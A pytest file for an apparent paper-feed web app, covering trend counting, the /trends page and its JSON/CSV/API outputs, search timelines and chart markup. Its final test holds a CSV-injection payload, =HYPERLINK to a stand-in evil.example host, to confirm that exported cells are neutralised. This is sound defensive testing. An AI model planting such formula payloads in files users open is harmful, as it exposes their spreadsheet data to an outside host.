"""Trends: counting per week/month from the lexical index (search/trends.py), the /trends page and
its JSON/CSV twins, /api/v1/trends, the timeline above searches, the small charts on author,
category and paper pages, and clear 4xx answers to bad input."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, timedelta

import pytest
from sqlalchemy import insert

from paperfeed.search.lexical import LexicalIndex
from paperfeed.search.lexical_query import words_needed
from paperfeed.search.query import parse_query
from paperfeed.search.trends import TrendCounter, bucket_end, bucket_start, bucket_starts, choose_unit
from paperfeed.store.schema import votes
from paperfeed.web.charts import bar_marks, bars, lines, nice_max, table_rows

from . import factories as f
from .webutil import client

MON = date(2025, 1, 6)  # a Monday


def _paper(day: date, title: str, **kw: object) -> dict[str, object]:
    return f.make_paper(title=title, abstract=kw.pop("abstract", "Plain text."), published=day, **kw)


@pytest.fixture
def corpus(settings, db):  # type: ignore[no-untyped-def]
    """Week 1: 3 diffusion papers (one cs.CV by Ada), 1 transformer. Week 3: 1 diffusion, 2 transformer
    (one of them also about diffusion models). Week 2 is empty."""
    rows = [
        _paper(MON, "Diffusion models for images", categories="cs.CV", authors=["Ada Byron"]),
        _paper(MON + timedelta(days=1), "Diffusion for audio", authors=["Bo Chen"]),
        _paper(MON + timedelta(days=6), "Latent diffusion", authors=["Bo Chen"], github_repo="https://github.com/x/y"),
        _paper(MON + timedelta(days=2), "A transformer for text"),
        _paper(MON + timedelta(days=14), "Diffusion again", imported_upvotes=5),
        _paper(MON + timedelta(days=15), "Transformer scaling", imported_upvotes=7),
        _paper(MON + timedelta(days=16), "Transformer meets diffusion models", imported_upvotes=11),
    ]
    f.add_papers(db, rows)
    f.add_daily(db, rows[4]["id"], MON + timedelta(days=15))
    f.add_daily(db, rows[6]["id"], MON + timedelta(days=16))
    f.add_daily(db, rows[0]["id"], MON + timedelta(days=2))
    LexicalIndex(settings).update(db, progress=False)
    return rows, client(settings, db)


# -- counting ------------------------------------------------------------------------------------


def test_buckets_are_iso_weeks_or_calendar_months() -> None:
    assert bucket_start(date(2025, 1, 12), "week") == MON  # a Sunday belongs to the week before
    assert bucket_end(MON, "week") == date(2025, 1, 12)
    assert bucket_start(date(2024, 2, 29), "month") == date(2024, 2, 1)
    assert bucket_end(date(2024, 12, 1), "month") == date(2024, 12, 31)
    assert bucket_starts(date(2024, 11, 15), date(2025, 2, 1), "month") == [
        date(2024, 11, 1),
        date(2024, 12, 1),
        date(2025, 1, 1),
        date(2025, 2, 1),
    ]
    assert choose_unit(date(2024, 1, 1), date(2025, 1, 1)) == "week"
    assert choose_unit(date(2020, 1, 1), date(2025, 1, 1)) == "month"
    assert [words_needed(n) for n in (1, 3, 4, 5, 6, 9)] == [1, 3, 4, 4, 4, 6]


def test_counter_counts_matches_per_week_and_their_categories_and_authors(corpus, settings) -> None:
    tc = TrendCounter(LexicalIndex(settings))
    assert tc.span() == (MON, MON + timedelta(days=16))
    tl = tc.timeline(parse_query("diffusion"))
    assert tl is not None and tl.unit == "week"
    assert tl.starts == [MON, MON + timedelta(days=7), MON + timedelta(days=14)]
    assert tl.counts == [3, 0, 2] and tl.total == 5
    assert tl.categories[:2] == [("cs.AI", 4), ("cs.LG", 4)]  # the factory's default categories; archives are left out
    assert ("cs.CV", 1) in tl.categories and all("." in c for c, _ in tl.categories)
    assert tl.authors[:3] == [("Ada Lovelace", 2), ("Alan Turing", 2), ("Bo Chen", 2)]
    # All words must match (a search would OR them); exclusions, phrases, authors and has_code apply.
    assert tc.timeline(parse_query("diffusion transformer")).counts == [0, 0, 1]  # type: ignore[union-attr]
    # Five words or more: the rarest two thirds that occur at all ("zebra" is in no paper).
    assert tc.timeline(parse_query("transformer diffusion models meets zebra")).counts == [0, 0, 1]  # type: ignore[union-attr]
    assert tc.timeline(parse_query("diffusion -latent")).counts == [2, 0, 2]  # type: ignore[union-attr]
    assert tc.timeline(parse_query('"diffusion models"')).counts == [1, 0, 1]  # type: ignore[union-attr]
    assert tc.timeline(parse_query('diffusion author:"Bo Chen"')).counts == [2, 0, 0]  # type: ignore[union-attr]
    assert tc.timeline(parse_query("diffusion"), has_code=True).counts == [1, 0, 0]  # type: ignore[union-attr]
    # The date filter does not shrink the timeline, only the top lists.
    dated = tc.timeline(parse_query("diffusion"), date_from=MON + timedelta(days=14))
    assert (
        dated is not None
        and dated.counts == [3, 0, 2]
        and dated.authors[:2] == [("Ada Lovelace", 2), ("Alan Turing", 2)]
    )


# -- the trends page and its twins -------------------------------------------------------------


def test_trends_json_csv_and_api_carry_the_same_series(corpus) -> None:
    _rows, c = corpus
    args = [("q", "diffusion"), ("q", "transformer")]
    j = c.get("/trends.json", params=args)
    assert j.status_code == 200
    data = j.json()
    assert [b["start"] for b in data["buckets"]] == ["2025-01-06", "2025-01-13", "2025-01-20"]
    assert [s["label"] for s in data["series"]] == ["diffusion", "transformer"]
    assert [s["values"] for s in data["series"]] == [[3, 0, 2], [1, 0, 2]]
    assert data["all"] == [4, 0, 3] and data["unit"] == "week" and data["value_label"] == "papers per week"

    api = c.get("/api/v1/trends", params=args)
    assert api.status_code == 200 and api.json()["series"] == data["series"]
    assert api.headers["access-control-allow-origin"] == "*"

    r = c.get("/trends.csv", params=args)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    table = list(csv.reader(io.StringIO(r.text)))
    assert table == [
        ["start", "end", "diffusion", "transformer", "all_papers"],
        ["2025-01-06", "2025-01-12", "3", "1", "4"],
        ["2025-01-13", "2025-01-19", "0", "0", "0"],
        ["2025-01-20", "2025-01-26", "2", "2", "3"],
    ]

    html = c.get("/trends", params=args).text
    assert html.count('class="chart-line series-') == 2
    assert '<table class="table trend-table">' in html and '<title id="trend-chart-title">' in html


def test_share_months_window_and_attention(corpus) -> None:
    _rows, c = corpus
    share = c.get("/trends.json", params=[("q", "diffusion"), ("scale", "share")]).json()
    assert share["series"][0]["values"] == [75.0, 0.0, 66.667] and share["value_label"] == "% of all papers that week"
    months = c.get("/api/v1/trends", params={"q": "transformer", "unit": "month"}).json()
    assert [b["start"] for b in months["buckets"]] == ["2025-01-01"] and months["series"][0]["values"] == [3]
    window = c.get("/trends.json", params={"q": "diffusion", "from": "2025-01-13", "to": "2025-01-26"}).json()
    assert [b["start"] for b in window["buckets"]] == ["2025-01-13", "2025-01-20"]
    assert window["series"][0]["values"] == [0, 2]
    # Attention: daily-feed upvotes of the matching papers, in the week each was in the feed.
    att = c.get("/trends.json", params=[("q", "diffusion"), ("q", "transformer"), ("measure", "attention")]).json()
    assert [s["values"] for s in att["series"]] == [[0, 0, 16], [0, 0, 11]]
    assert att["all"] == [0, 0, 16] and att["value_label"] == "daily-feed upvotes per week"


@pytest.mark.parametrize(
    "args, message, api_status",  # the API: 422 from parameter validation, 400 from the span limit
    [
        ([("q", w) for w in "abcde"], "at most 4 queries", 422),
        ([("q", "x"), ("from", "2025-02-30")], "not a real date", 422),
        ([("q", "x"), ("from", "2025-03-01"), ("to", "2025-01-01")], "after the end date", 422),
        ([("q", "x"), ("unit", "day")], "unit must be one of", 422),
        ([("q", "x"), ("measure", "hype")], "measure must be one of", 422),
        ([("q", "x"), ("unit", "week"), ("from", "1991-01-01"), ("to", "2025-01-01")], "more than 1200 weeks", 400),
        ([("q", "x"), ("from", "1991-01-01"), ("to", "2999-12-31")], "more than 1200 months", 400),
    ],
)
def test_bad_input_gets_a_clear_4xx(corpus, args, message, api_status) -> None:
    _rows, c = corpus
    page = c.get("/trends", params=args)
    assert page.status_code == 400 and message in page.text
    assert c.get("/trends.json", params=args).status_code == 400
    assert message in c.get("/trends.json", params=args).json()["detail"]
    csv_r = c.get("/trends.csv", params=args)
    assert csv_r.status_code == 400 and message in csv_r.text
    api = c.get("/api/v1/trends", params=args)
    assert api.status_code == api_status and message in api.text


def test_empty_trends_page_offers_examples_and_the_api_needs_a_query(corpus) -> None:
    _rows, c = corpus
    r = c.get("/trends")
    assert r.status_code == 200 and "/trends?q=diffusion&amp;q=transformer" in r.text
    assert c.get("/api/v1/trends").status_code == 422
    assert c.get("/api/v1/trends", params={"q": "  "}).status_code == 422
    assert c.get("/trends.csv").status_code == 400


# -- the timeline above a search, and the other pages' charts ----------------------------------


def test_search_timeline_links_narrow_and_filter(corpus) -> None:
    _rows, c = corpus
    j = c.get("/papers/search.json", params={"q": "diffusion", "mode": "keyword", "from": "2025-01-20"}).json()
    tl = j["timeline"]
    assert [b["count"] for b in tl["buckets"]] == [3, 0, 2] and tl["from"] == "2025-01-20"
    assert tl["buckets"][0]["url"] == "/papers/search?q=diffusion&mode=keyword&from=2025-01-06&to=2025-01-12"
    cv = next(x for x in tl["categories"] if x["category"] == "cs.LG")
    assert cv["url"] == "/papers/search?q=diffusion&mode=keyword&from=2025-01-20&category=cs.LG"
    assert tl["authors"][0]["url"].startswith("/papers/search?q=diffusion+author%3A%22")
    narrowed = c.get(tl["buckets"][0]["url"].replace("/papers/search?", "/papers/search.json?")).json()
    assert narrowed["total"] == 3
    html = c.get("/papers/search", params={"q": "diffusion", "mode": "keyword", "from": "2025-01-20"}).text
    assert 'id="timeline-chart"' in html and 'class="chart-shade"' in html
    assert html.count('class="chart-bar-link"') == 3 and '<desc id="timeline-chart-desc">' in html


@pytest.mark.parametrize(
    "args",
    [
        {"q": "diffusion"},
        {"q": 'ünï "code" & more=1 author:"A B"', "mode": "keyword", "sort": "date", "p": "3"},
        {"q": "x", "from": "2024-01-01", "to": "2024-02-01", "category": "cs.LG,cs.CV", "has_code": "1",
         "min_upvotes": "5", "sort": "upvotes", "mode": "semantic"},
    ],
)  # fmt: skip
def test_bar_links_are_the_search_narrowed_to_their_dates(args: dict[str, str]) -> None:
    # The bar links encode the search's other arguments once per timeline: the same links as
    # encoding them for every bar.
    from urllib.parse import urlencode

    from paperfeed.web.params import search_params
    from paperfeed.web.trends import _narrowed_to

    sp = search_params(args)
    start, end = MON, MON + timedelta(days=6)
    expected = urlencode(sp.query_args(**{"from": start.isoformat(), "to": end.isoformat(), "p": None}))
    assert _narrowed_to(sp)(start, end) == expected


def test_search_feed_is_unchanged_by_the_timeline(corpus) -> None:
    _rows, c = corpus
    feed = c.get("/feeds/search.atom", params={"q": "diffusion", "mode": "keyword"})
    assert feed.status_code == 200 and b"timeline" not in feed.content and b"chart" not in feed.content


def test_author_category_and_paper_pages_draw_small_charts(corpus, db) -> None:
    rows, c = corpus
    author = c.get("/authors/Bo Chen.json").json()["activity"]
    assert [(b["label"], b["count"]) for b in author["buckets"]] == [("2025-01", 2)]
    narrowed = c.get(author["buckets"][0]["url"].replace("/papers/search?", "/papers/search.json?")).json()
    assert sorted(h["id"] for h in narrowed["hits"]) == sorted([rows[1]["id"], rows[2]["id"]])
    assert author["categories"][0] == {"category": "cs.AI", "count": 2}
    assert 'id="author-chart"' in c.get("/authors/Bo Chen").text

    new = c.get("/papers/new.json", params={"category": "cs.CV", "date": "2025-01-16"}).json()
    assert sum(b["count"] for b in new["weekly"]["buckets"]) == 1
    assert c.get("/papers/new.json", params={"date": "2025-01-16"}).json()["weekly"] is None

    pid = rows[0]["id"]
    assert c.get(f"/papers/{pid}.json").json()["votes"] is None
    users = [f.add_user(db, f"voter{i}") for i in range(3)]
    when = [datetime(2025, 2, 3, 10), datetime(2025, 2, 4, 10), datetime(2025, 2, 19, 10)]
    with db.write() as conn:
        conn.execute(
            insert(votes), [{"user_id": u, "paper_id": pid, "created_at": t} for u, t in zip(users, when, strict=True)]
        )
    # Written behind the app's back: make the page cache re-read the data version now instead of
    # within its 0.25 s interval (otherwise the cached page without votes may come back).
    c.app.state.pf.version.invalidate()
    got = c.get(f"/papers/{pid}.json").json()["votes"]
    assert [(b["start"], b["count"]) for b in got["buckets"]] == [
        ("2025-02-03", 2),
        ("2025-02-10", 0),
        ("2025-02-17", 1),
    ]
    assert 'id="votes-chart"' in c.get(f"/papers/{pid}").text


# -- chart geometry --------------------------------------------------------------------------------


def test_chart_geometry() -> None:
    assert [nice_max(v) for v in (0, 1, 3, 7, 11, 240, 1001)] == [1, 1, 5, 10, 20, 250, 2000]
    buckets = [
        {"start": MON + timedelta(days=7 * i), "end": MON + timedelta(days=7 * i + 6), "count": n}
        for i, n in enumerate([0, 5, 10])
    ]
    g = bars(buckets, shade_from=MON + timedelta(days=8), shade_to=MON + timedelta(days=20))
    assert [b["h"] for b in g["bars"]][0] == 0 and g["bars"][2]["h"] == 96 and g["bars"][2]["y"] == 4
    assert g["shade"] == [{"x": 10, "w": 20}] and [b["selected"] for b in g["bars"]] == [False, True, True]
    ln = lines(["a", "b"], [[0, 10], [5, 5]])
    assert ln["lines"][0] == "0.0,295.0 1000.0,5.0" and ln["max"] == 10


def test_bar_and_table_markup_is_escaped_and_linked() -> None:
    url = "/papers/search?q=a&b=<c>"
    buckets = [
        {"start": MON, "end": MON + timedelta(days=6), "label": "2025-01-06", "count": 3, "url": url},
        {"start": MON + timedelta(days=7), "end": MON + timedelta(days=13), "label": "2025-01-13", "count": 0},
    ]
    marks = str(bar_marks(bars(buckets), buckets, "papers & <more>"))
    assert marks.count('class="chart-bar-link"') == 1 and 'data-start="2025-01-06"' in marks
    assert 'href="/papers/search?q=a&amp;b=&lt;c&gt;"' in marks
    assert "<title>2025-01-06: 3 papers &amp; &lt;more&gt;</title>" in marks
    assert marks.count('class="chart-hit"') == 2 and marks.count('class="chart-fill"') == 1  # 0: no bar
    assert str(table_rows(buckets)) == (
        '<tr><th scope="row">2025-01-06</th><td>2025-01-12</td>'
        '<td><a href="/papers/search?q=a&amp;b=&lt;c&gt;">3</a></td></tr>'
        '<tr><th scope="row">2025-01-13</th><td>2025-01-19</td><td>0</td></tr>'
    )


def test_trend_queries_on_both_databases(any_db) -> None:
    from paperfeed.store import trend_queries

    a = f.add_paper(any_db, imported_upvotes=4, upvotes=1, categories="cs.CL cs.AI", published=MON)
    b = f.add_paper(any_db, published=None)
    hidden = f.add_paper(any_db, imported_upvotes=50)
    f.add_daily(any_db, a["id"], MON)
    f.add_daily(any_db, hidden["id"], MON, hidden=True)
    voter = f.add_user(any_db, "voter")
    with any_db.write() as conn:
        conn.execute(insert(votes), [{"user_id": voter, "paper_id": a["id"], "created_at": datetime(2025, 1, 7, 8)}])
    with any_db.read() as conn:
        feed = trend_queries.feed_entries(conn)
        days = trend_queries.paper_days(conn, [a["id"], b["id"], "9999.99999"])
        times = trend_queries.vote_times(conn, a["id"])
    assert feed == {a["id"]: trend_queries.FeedEntry(a["id"], MON, 5)}
    assert sorted((d.paper_id, d.published, d.categories) for d in days) == [
        (a["id"], MON, ["cs.CL", "cs.AI"]),
        (b["id"], None, ["cs.LG", "cs.AI"]),
    ]
    assert times == [datetime(2025, 1, 7, 8)]


def test_a_window_without_papers_says_so(corpus) -> None:
    _rows, c = corpus
    for args in ({"q": "diffusion", "from": "2030-01-01"}, {"q": "diffusion", "to": "2001-01-01"}):
        page = c.get("/trends", params=args)
        assert page.status_code == 200 and "No papers in this paperfeed were published" in page.text
        data = c.get("/trends.json", params=args).json()
        assert data["buckets"] == [] and data["series"] == [] and "2025-01-06 to 2025-01-22" in data["warnings"][0]
        assert c.get("/api/v1/trends", params=args).json()["series"] == []


def test_csv_cells_cannot_start_a_spreadsheet_formula(corpus) -> None:
    """Outside review (issue 10 audit): the query is the CSV's column header, so a link such as
    /trends.csv?q==HYPERLINK("http://evil.example/?"%26A2,"open") put a live formula into the
    file of whoever opened it in a spreadsheet (CSV injection). Cells starting with = + - @ (or a
    tab/CR) are written with a leading apostrophe, which spreadsheets show as text."""
    _rows, c = corpus
    hostile = ['=HYPERLINK("http://evil.example/","open") diffusion', "+diffusion", "-transformer diffusion",
               "@diffusion"]  # fmt: skip
    r = c.get("/trends.csv", params=[("q", q) for q in hostile])
    assert r.status_code == 200, r.text[:200]
    header = next(csv.reader(io.StringIO(r.text)))
    labels = header[2:-1]
    assert len(labels) == len(hostile)
    for label in labels:
        assert label.startswith("'") and label[1] in "=+-@", label
    j = c.get("/trends.json", params=[("q", q) for q in hostile]).json()  # the JSON twin keeps the text as it is
    assert [s["label"][0] for s in j["series"]] == ["=", "+", "-", "@"]
